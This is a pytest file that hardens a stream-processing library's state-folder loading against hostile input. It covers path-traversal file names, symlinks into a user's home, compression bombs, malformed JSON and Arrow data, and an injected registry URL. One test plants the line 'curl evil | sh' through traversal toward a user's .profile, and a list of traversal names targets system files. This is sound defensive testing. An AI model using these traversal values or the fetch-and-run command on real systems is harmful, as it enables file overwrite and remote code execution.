"""A state folder of someone else: names, links, numbers and bytes in them that mean harm."""

from __future__ import annotations

import os
import shutil
import socket
import struct
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import crossstream as cs
from crossstream import serdes
from crossstream.errors import SerdeError, StateError
from crossstream.query.verification import verify_state
from crossstream.storage.commit_log import BatchLog
from crossstream.storage.copying import copy_state
from crossstream.storage.vacuum import Vacuum
from tests.faults import hostile
from tests.faults.hostile import (
    ACTS,
    JSONS,
    attacked,
    bounds,
    file_of,
    in_time,
    make_state,
    manifest_of,
    opened,
    replace_run,
    rows_of,
    with_offsets,
    write,
)


@pytest.fixture(scope="module")
def pattern(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("pattern") / "state"
    make_state(folder)
    return folder


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """What the user has, which is nobody's business."""
    folder = tmp_path / "home"
    (folder / "letters").mkdir(parents=True)
    (folder / ".profile").write_text("export PATH")
    for name in ("000000000000.json", "x.tmp", "letter.arrow"):
        (folder / "letters" / name).write_text("dear")
    return folder


@pytest.fixture
def state(tmp_path: Path, pattern: Path) -> Path:
    return Path(shutil.copytree(pattern, tmp_path / "given" / "state"))


NAMES = [
    "../../../../../home/.profile", "../../../../home/.profile", "/etc/hostname", "..", ".", "", ".profile", "a/b",
    "a\\b/..", "x\0.arrow", "x" * 300, "\u2024\u2024/x", "\uff0e\uff0e\uff0fx", "a\nb.arrow", "a b", "\x1b[31m", "％2e",
]  # fmt: skip


class TestNames:
    @pytest.mark.parametrize("name", NAMES)
    def test_of_a_run(self, state: Path, home: Path, tmp_path: Path, name: str) -> None:
        """With the size and the checksum of the user's own file, so that it is the run."""
        path = manifest_of(state)
        content, victim = opened(path), (home / ".profile").read_bytes()
        segment = content["slots"][0][0][0]
        segment[0], segment[5], segment[6] = name, len(victim), hostile.digest(victim)
        write(path, content)
        errors = attacked(state, home, tmp_path)
        assert all(isinstance(error, StateError) for error in errors.values())
        assert verify_state(state).problems

    def test_a_backup_that_is_restored_replaces_no_file_of_the_user(
        self, state: Path, home: Path, tmp_path: Path
    ) -> None:
        """Beside the folder that is given lies the file that is to come into the user's home."""
        evil = b"curl evil | sh"
        (tmp_path / "given" / "evil" / "home").mkdir(parents=True)
        path = manifest_of(state)
        content = opened(path)
        name = "../../../../home/.profile"
        (state / "stores" / "rows" / "0" / name).resolve().parent.mkdir(parents=True, exist_ok=True)
        (state / "stores" / "rows" / "0" / name).resolve().write_bytes(evil)
        segment = content["slots"][0][0][0]
        segment[0], segment[5], segment[6] = name, len(evil), hostile.digest(evil)
        write(path, content)
        with pytest.raises(StateError, match="CS-701"):
            copy_state(state, tmp_path / "restored", links=False)
        assert (home / ".profile").read_text() == "export PATH"

    @pytest.mark.parametrize("name", NAMES)
    def test_of_a_manifest(self, state: Path, home: Path, tmp_path: Path, name: str) -> None:
        newest = max((state / "commits").iterdir())
        content = opened(newest)
        content["versions"]["rows"]["0"] = name
        write(newest, content)
        errors = attacked(state, home, tmp_path)
        assert {act for act in ACTS if act not in (hostile.verify, hostile.command_line)} == errors.keys()
        assert verify_state(state).problems

    @pytest.mark.parametrize("name", ["..", ".", "", "\0", "x" * 400, "../../home", "\u2024\u2024"])
    def test_of_a_store(self, state: Path, home: Path, tmp_path: Path, name: str) -> None:
        for path in [state / "application.json", *(state / "commits").iterdir()]:
            content = opened(path)
            key = "stores" if path.name == "application.json" else "versions"
            content[key][name] = content[key].pop("rows")
            write(path, content)
        content = opened(state / "application.json")
        content["readers"]["rows"]["store"] = name
        write(state / "application.json", content)
        errors = attacked(state, home, tmp_path)
        assert all(isinstance(error, StateError) for error in errors.values())

    def test_what_waits_to_be_published(self, state: Path, tmp_path: Path) -> None:
        path = state / "batches" / f"{3:012d}.json"
        entry = opened(state / "batches" / f"{2:012d}.json") | {"id": 3}
        commit = opened(max((state / "commits").iterdir())) | {"id": 3}
        for kind in ("staged", "tables"):
            one = ["../../x", "rows", 0, 1, "AAAA"] if kind == "staged" else ["../../x", "sink"]
            write(path, entry | {"publication": {"commit": commit, "staged": [], "tables": [], kind: [one]}})
            with pytest.raises(StateError, match="CS-701"):
                BatchLog(state).batch(3)


class TestLinks:
    @pytest.mark.parametrize(
        "place",
        ["stores", "commits", "batches", "staged", "ui", "frames", "stores/rows", "stores/rows/0"],
    )
    def test_in_the_place_of_a_folder(self, state: Path, home: Path, tmp_path: Path, place: str) -> None:
        """It leads to the user's letters, with what was there before: all would work."""
        away = home / "letters" / "there"
        if (state / place).exists():
            shutil.move(state / place, away)
        else:
            away.mkdir()
        (state / place).symlink_to(away)
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {*("CS-701", "CS-713")}

    @pytest.mark.parametrize("to", ["file", "nothing", "/dev/zero", "/dev/full"])
    @pytest.mark.parametrize(
        "kind",
        ["lock", "application.json", "commit", "batch", "manifest", "run", "ui/last.json", "ui/history.bin"],
    )
    def test_in_the_place_of_a_file(
        self, state: Path, home: Path, tmp_path: Path, kind: str, to: str
    ) -> None:
        path = place_of(state, kind)
        target = {"file": home / ".profile", "nothing": home / "new"}.get(to, Path(to))
        path.unlink(missing_ok=True)
        path.symlink_to(target)
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {*("CS-701", "CS-713", "CS-723")}

    @pytest.mark.parametrize(
        "kind",
        ["lock", "application.json", "commit", "batch", "manifest", "run", "ui/last.json", "ui/history.bin"],
    )
    def test_a_pipe_never_answers(self, state: Path, home: Path, tmp_path: Path, kind: str) -> None:
        path = place_of(state, kind)
        path.unlink(missing_ok=True)
        os.mkfifo(path)
        attacked(state, home, tmp_path)

    def test_the_folder_itself_may_be_one(self, state: Path, tmp_path: Path) -> None:
        (tmp_path / "link").symlink_to(state)
        assert dict(cs.open_store(tmp_path / "link", "rows").all())["k1"] == "v2"

    def test_a_vacuum_deletes_nothing_through_a_link(self, state: Path, home: Path) -> None:
        shutil.rmtree(state / "stores")
        (state / "stores").symlink_to(home)
        log = BatchLog(state)
        before = hostile.outside(home)
        with pytest.raises(StateError, match="CS-701"):
            Vacuum(state, log, 1).sweep(3)
        assert hostile.outside(home) == before


def place_of(state: Path, kind: str) -> Path:
    manifest = manifest_of(state)
    if kind == "run":
        return manifest.parent / opened(manifest)["slots"][0][0][0][0]
    if kind == "manifest":
        return manifest
    if kind in ("commit", "batch"):
        return max((state / {"commit": "commits", "batch": "batches"}[kind]).iterdir())
    (state / kind).parent.mkdir(exist_ok=True)
    return state / kind


HUGE = [2**31, 2**40, 2**63, 2**64, 10**30, -1, -(2**40), 0.5, None, "1", [], {}, True]


class TestNumbers:
    @pytest.mark.parametrize("number", [2**40, 10**30, 0, -1])
    @pytest.mark.parametrize("where", ["application.json", "commit"])
    def test_partitions(self, state: Path, home: Path, tmp_path: Path, where: str, number: int) -> None:
        path = place_of(state, where)
        write(path, opened(path) | {"partitions": number})
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {"CS-701"}

    @pytest.mark.parametrize("folder", ["commits", "batches"])
    @pytest.mark.parametrize("number", [999_999_999_999, 2**32 - 1])
    def test_of_a_batch(self, state: Path, home: Path, tmp_path: Path, folder: str, number: int) -> None:
        content = opened(max((state / folder).iterdir()))
        write(state / folder / f"{number:012d}.json", content | {"id": number})
        attacked(state, home, tmp_path)

    @pytest.mark.parametrize("number", [2**40, 10**30, -1, None])
    @pytest.mark.parametrize("place", range(1, 8))
    def test_of_a_segment(self, state: Path, home: Path, tmp_path: Path, place: int, number: Any) -> None:
        path = manifest_of(state)
        content = opened(path)
        content["slots"][0][0][0][place] = number
        write(path, content)
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {"CS-701"}

    def test_a_run_that_is_taken_a_million_times(self, state: Path) -> None:
        path = manifest_of(state)
        content = opened(path)
        content["slots"] = [[content["slots"][0][0] * 100_000, 0, False]]
        write(path, content)
        with pytest.raises(StateError, match="twice"):
            list(cs.open_store(state, "rows").all())
        assert any("twice" in problem.what for problem in verify_state(state).problems)

    def test_files_that_are_all_hole(self, state: Path) -> None:
        for kind in ("application.json", "commit", "manifest"):
            path = place_of(state, kind)
            before = path.read_bytes()
            os.truncate(path, 1 << 40)
            with in_time(), pytest.raises(StateError, match="CS-701"):
                list(cs.open_store(state, "rows").all())
            path.write_bytes(before)


@pytest.mark.parametrize("text", JSONS.values(), ids=JSONS)
@pytest.mark.parametrize("kind", ["application.json", "commit", "batch", "manifest"])
def test_json_that_is_hard_to_read(state: Path, home: Path, tmp_path: Path, kind: str, text: bytes) -> None:
    write(place_of(state, kind), text)
    errors = attacked(state, home, tmp_path)
    assert {error.code for error in errors.values()} <= {*("CS-701", "CS-704", "CS-713")}


# Runs


class TestRuns:
    @pytest.mark.parametrize("column", ["key", "value"])
    @pytest.mark.parametrize(
        "offsets", [(0, 2**40, 2**41), (2**40, 2**40 + 1, 2**40 + 2), (-(2**40), 0, 1), (5, 1, 2)]
    )
    def test_values_that_lie_beyond_the_file(
        self, state: Path, home: Path, tmp_path: Path, column: str, offsets: tuple[int, ...]
    ) -> None:
        batch = rows_of(2)
        replace_run(state, with_offsets(batch, column, *offsets), *bounds(batch))
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {"CS-701"}
        assert any("is no run" in problem.what for problem in verify_state(state).problems)

    @pytest.mark.parametrize("codec", ["zstd", "lz4"])
    def test_a_bomb(self, state: Path, codec: str) -> None:
        """A file of kilobytes that takes gigabytes."""
        batch = rows_of(1, value=pa.array([bytes(1 << 28)], pa.large_binary()))
        data = file_of(batch, compression=codec)
        assert len(data) < 1 << 22
        replace_run(state, data, *bounds(batch))
        before = pa.total_allocated_bytes()
        with pytest.raises(StateError, match="compressed"):
            list(cs.open_store(state, "rows").all())
        assert pa.total_allocated_bytes() - before < 1 << 24
        assert any("compressed" in problem.what for problem in verify_state(state).problems)

    @pytest.mark.parametrize(
        "columns",
        [
            {"key": pa.array([None, b"b"], pa.large_binary())},
            {"key": pa.array([b"a", b"b"], pa.binary())},
            {"h": pa.array([1, 2], pa.int64())},
            {"h": pa.array([None, 2], pa.uint64())},
            {"ts": pa.array([b"1", b"2"], pa.large_binary())},
            {"gone": pa.array([1, 2], pa.int64())},
            {"value": pa.array([{"a": 1}, {"a": 2}])},
            {"value": pa.array(["a", "a"]).dictionary_encode()},
            {"more": pa.array([1, 2], pa.int64())},
        ],
        ids=lambda columns: "-".join(f"{name}-{column.type}" for name, column in columns.items()),
    )
    def test_columns_of_other_kinds(self, state: Path, home: Path, tmp_path: Path, columns: Any) -> None:
        batch = rows_of(2, **columns)
        replace_run(state, file_of(batch), 2, 1, 2)
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {"CS-701"}
        assert verify_state(state).problems

    @pytest.mark.parametrize("data", [b"", b"ARROW1\0\0", b"ARROW1\0\0" + b"\xff" * 64, b"\0" * 200])
    def test_bytes_that_are_no_run(self, state: Path, home: Path, tmp_path: Path, data: bytes) -> None:
        replace_run(state, data, 2, 1, 2)
        errors = attacked(state, home, tmp_path)
        assert {error.code for error in errors.values()} <= {"CS-701"}

    def test_a_footer_that_leads_elsewhere(self, state: Path) -> None:
        """Rows are those after the schema, whatever the footer says."""
        batch = rows_of(2)
        data = file_of(batch)
        footer = len(data) - 10 - struct.unpack_from("<i", data, len(data) - 10)[0]
        replace_run(state, data[:footer] + bytes(len(data) - footer), *bounds(batch))
        assert dict(cs.open_store(state, "rows").all())["k1"] in ("v", "v2")


def test_a_history_of_a_store_that_keeps_none(state: Path) -> None:
    path = state / "application.json"
    content = opened(path)
    name = next(name for name, readable in content["readers"].items() if readable["kind"] == "key-value")
    content["readers"][name]["history"] = 7632
    write(path, content)
    with pytest.raises(StateError, match=r"\[CS-704\].*keeps old values"):
        cs.open_store(state, name)


def test_the_registry_that_a_folder_names_is_not_asked(tmp_path: Path) -> None:
    builder = cs.StreamsBuilder()
    value: Any = serdes.confluent_avro("mock://hostile", "string")
    builder.table("rows", cs.Consumed(key=hostile.TEXT, value=value), cs.Materialized(store="rows"))
    writer = hostile.Writer(tmp_path, builder.build())
    writer.run({"rows": [(b"k", value.written_to("rows", False).serialize("v"), 1)]})
    writer.close()
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        content = opened(tmp_path / "application.json")
        content["readers"]["rows"]["value"]["registry"] = f"http://127.0.0.1:{server.getsockname()[1]}"
        write(tmp_path / "application.json", content)
        with pytest.raises(SerdeError, match="CS-420") as caught:
            list(cs.open_store(tmp_path, "rows").all())
        with pytest.raises(TimeoutError):
            server.accept()
    assert "registry=" in str(caught.value.next)
    assert dict(cs.open_store(tmp_path, "rows", registry="mock://hostile").all()) == {"k": "v"}


# Anything


def places_in(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The ways to all values in JSON."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for name, one in inner for place in places_in(one, (*path, name)))]


def changed(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = changed(value[path[0]], path[1:], new)
    return copy


VALUES = st.one_of(
    st.sampled_from(
        [*NAMES[:8], *HUGE, 0, 1, 2**53, 1e308, "json", "known", "own", {"a": 1}, [1], [[]], "rows"]
    ),
    st.integers(),
    st.text(max_size=20),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)


@pytest.mark.parametrize("examples", [20, pytest.param(500, marks=pytest.mark.nightly)])
def test_any_change_of_what_a_folder_says(
    tmp_path_factory: pytest.TempPathFactory, pattern: Path, examples: int
) -> None:
    """Some values in some of its files are others, or some bytes are; the checksums fit."""

    @settings(max_examples=examples, deadline=None, database=None)
    @given(data=st.data())
    def attack(data: st.DataObject) -> None:
        attack_a_change(tmp_path_factory, pattern, data)

    attack()


def attack_a_change(tmp_path_factory: pytest.TempPathFactory, pattern: Path, data: st.DataObject) -> None:
    base = tmp_path_factory.mktemp("any")
    home, folder = base / "home", Path(shutil.copytree(pattern, base / "given" / "state"))
    home.mkdir()
    (home / ".profile").write_text("mine")
    kinds = ["application.json", "commit", "batch", "manifest", "run"]
    for kind in data.draw(st.lists(st.sampled_from(kinds), min_size=1, max_size=3)):
        if not manifest_fits(folder):
            break
        path = place_of(folder, kind)
        if kind == "run":
            whole = bytearray(path.read_bytes())
            for _ in range(data.draw(st.integers(1, 4))):
                whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
            content = opened(manifest_of(folder))
            segment = content["slots"][0][0][0]
            replace_run(folder, bytes(whole), segment[2], segment[3], segment[4])
            continue
        content = opened(path)
        write(path, changed(content, data.draw(st.sampled_from(places_in(content))), data.draw(VALUES)))
    attacked(folder, home, base)
    shutil.rmtree(base)


def manifest_fits(folder: Path) -> bool:
    """Whether the way from the newest commit to a run is still there."""
    try:
        place_of(folder, "run").stat()
    except (LookupError, TypeError, OSError, ValueError):
        return False
    return True
